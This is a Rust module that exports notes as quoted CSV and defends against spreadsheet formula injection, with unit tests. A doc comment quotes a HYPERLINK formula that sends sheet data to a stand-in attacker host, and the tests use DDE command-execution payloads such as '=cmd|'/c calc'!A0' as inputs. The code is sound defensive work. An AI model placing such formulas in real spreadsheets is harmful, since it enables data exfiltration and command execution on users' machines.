//! Notes as CSV (RFC 4180) for spreadsheets: one row per note, every field
//! quoted, line breaks kept inside the quotes.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a
//! tab or carriage return before one) as a formula: a title such as
//! `=HYPERLINK("http://evil.example/?"&A1,"Click")` would send the sheet
//! away. Such cells get a leading `'`, which spreadsheets show as text
//! (OWASP's advice on CSV injection). Control characters and escape
//! sequences are neutralized as everywhere else.

use super::super::anchor::Resolution;
use super::super::clock::rfc3339;
use super::super::model::{Note, Target};
use super::Articles;
use crate::corpus::Corpus;
use crate::corpus::sanitize::{sanitize_inline, sanitize_label, split_lines};

/// The header row's names, in order.
pub const COLUMNS: [&str; 11] =
    ["id", "article", "title", "on", "entity", "quote", "text", "tags", "created", "updated", "anchor"];

/// A cell as a spreadsheet will take it as text: a formula's first
/// character defused, quotes doubled, the whole quoted.
pub fn cell(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 3);
    out.push('"');
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        out.push('\'');
    }
    for c in value.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Text that may have several lines: each line sanitized, joined by `\n`.
fn multiline(text: &str) -> String {
    split_lines(text).into_iter().map(|l| sanitize_inline(l).into_owned()).collect::<Vec<_>>().join("\n")
}

fn anchor(resolution: Option<Resolution>) -> &'static str {
    match resolution {
        Some(r) => match r.state() {
            crate::notes::AnchorState::Exact => "exact",
            crate::notes::AnchorState::Moved => "moved",
            crate::notes::AnchorState::Fuzzy => "fuzzy",
            crate::notes::AnchorState::Orphaned => "orphaned",
        },
        None => "",
    }
}

/// The notes as CSV, in the order given, with a header row; lines end in
/// CRLF as RFC 4180 has them.
pub fn csv(notes: &[Note], corpus: &Corpus) -> String {
    let articles = Articles::new(corpus);
    let mut out = String::new();
    let header: Vec<String> = COLUMNS.iter().map(|c| cell(c)).collect();
    out.push_str(&header.join(","));
    out.push_str("\r\n");
    for n in notes {
        let title = articles.get(&n.article).map(|a| a.title.clone()).unwrap_or_default();
        let (on, entity, quote) = match &n.target {
            Target::Article => ("article", String::new(), String::new()),
            Target::Entity(e) => ("entity", sanitize_label(&e.name), String::new()),
            Target::Passage(a) => ("passage", String::new(), multiline(&a.quote)),
        };
        let fields = [
            n.id.to_string(),
            sanitize_label(&n.article),
            title,
            on.to_string(),
            entity,
            quote,
            multiline(&n.text),
            n.tags.iter().map(|t| sanitize_label(t)).collect::<Vec<_>>().join(" "),
            rfc3339(n.created),
            rfc3339(n.updated),
            anchor(articles.resolve(n)).to_string(),
        ];
        let row: Vec<String> = fields.iter().map(|f| cell(f)).collect();
        out.push_str(&row.join(","));
        out.push_str("\r\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A minimal RFC 4180 reader, to check what a spreadsheet would see.
    fn parse(text: &str) -> Vec<Vec<String>> {
        let mut rows = Vec::new();
        let mut row = Vec::new();
        let mut field = String::new();
        let mut chars = text.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => quoted = true,
                (false, ',') => row.push(std::mem::take(&mut field)),
                (false, '\r') => {}
                (false, '\n') => {
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                (false, c) => field.push(c),
            }
        }
        rows
    }

    fn note(id: i64, text: &str) -> Note {
        Note {
            id,
            article: "abc".into(),
            target: Target::Article,
            text: text.into(),
            tags: crate::notes::parse_tags(text),
            created: 0,
            updated: 0,
            version: 1,
            deleted: None,
        }
    }

    #[test]
    fn quotes_commas_and_line_breaks_survive() {
        let notes = [note(1, "He said \"no\", twice.\nSecond line #tag"), note(2, "plain")];
        let rows = parse(&csv(&notes, &Corpus::seeds()));
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0], COLUMNS.iter().map(|c| c.to_string()).collect::<Vec<_>>());
        assert_eq!(rows[1][6], "He said \"no\", twice.\nSecond line #tag");
        assert_eq!(rows[1][7], "tag");
        assert_eq!(rows[1][3], "article");
        assert_eq!(rows[2][6], "plain");
        assert!(rows.iter().all(|r| r.len() == COLUMNS.len()));
    }

    #[test]
    fn formulas_are_defused() {
        for bad in ["=1+1", "+1", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "=HYPERLINK(\"http://x\",\"y\")"] {
            let c = cell(bad);
            assert!(c.starts_with("\"'"), "{c}");
            assert_eq!(parse(&format!("{c}\n"))[0][0], format!("'{bad}"));
        }
        assert_eq!(cell("ok = fine"), "\"ok = fine\"");
        let rows = parse(&csv(&[note(3, "=cmd|'/c calc'!A0")], &Corpus::seeds()));
        assert_eq!(rows[1][6], "'=cmd|'/c calc'!A0");
    }

    #[test]
    fn escapes_are_neutralized() {
        let out = csv(&[note(4, "a\u{1b}[2Jb")], &Corpus::seeds());
        assert!(!out.contains('\u{1b}'), "{out}");
    }
}
